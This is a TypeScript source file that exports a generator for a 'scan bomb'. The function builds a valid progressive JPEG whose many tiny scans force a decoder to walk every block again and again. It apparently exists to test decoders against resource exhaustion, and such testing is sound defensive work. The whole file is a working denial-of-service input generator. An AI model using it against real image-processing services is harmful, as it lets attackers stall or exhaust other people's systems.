function segment(marker: number, ...data: number[]): Uint8Array {
  const length = data.length + 2;
  return Uint8Array.of(0xff, marker, length >> 8, length & 0xff, ...data);
}

/**
 * A valid progressive grey JPEG whose every scan says "no change" in a few bytes, but costs a walk over all its blocks.
 *
 * @param side - In pixels, a multiple of 8.
 * @param scans - 1 to 883: one for the mean, then fourteen for each of the 63 frequencies.
 */
export function scanBomb(side: number, scans: number): Uint8Array {
  const blocks = (side / 8) ** 2;
  // Each run is one code bit 0 and fourteen bits of length, all 1: 32,767 blocks without change.
  const runs = '011111111111111'.repeat(Math.ceil(blocks / 32_767)).match(/.{1,8}/g) ?? [];
  const body = runs.flatMap((bits) => (bits === '11111111' ? [0xff, 0] : [Number.parseInt(bits.padEnd(8, '1'), 2)]));
  const parts = [
    Uint8Array.of(0xff, 0xd8),
    segment(0xdb, 0, ...Array<number>(64).fill(1)),
    segment(0xc2, 8, side >> 8, side & 0xff, side >> 8, side & 0xff, 1, 1, 0x11, 0),
    segment(0xc4, 0x00, 1, ...Array<number>(15).fill(0), 0x00),
    segment(0xc4, 0x10, 1, ...Array<number>(15).fill(0), 0xe0),
    segment(0xda, 1, 1, 0, 0, 0, 0),
    new Uint8Array(Math.ceil(blocks / 8)),
  ];
  for (let scan = 0; scan < scans - 1; scan++) {
    const [frequency, bit] = [1 + Math.floor(scan / 14), 13 - (scan % 14)];
    parts.push(
      segment(0xda, 1, 1, 0, frequency, frequency, ((bit === 13 ? 0 : bit + 1) << 4) | bit),
      Uint8Array.from(body),
    );
  }
  return Buffer.concat([...parts, Uint8Array.of(0xff, 0xd9)]);
}
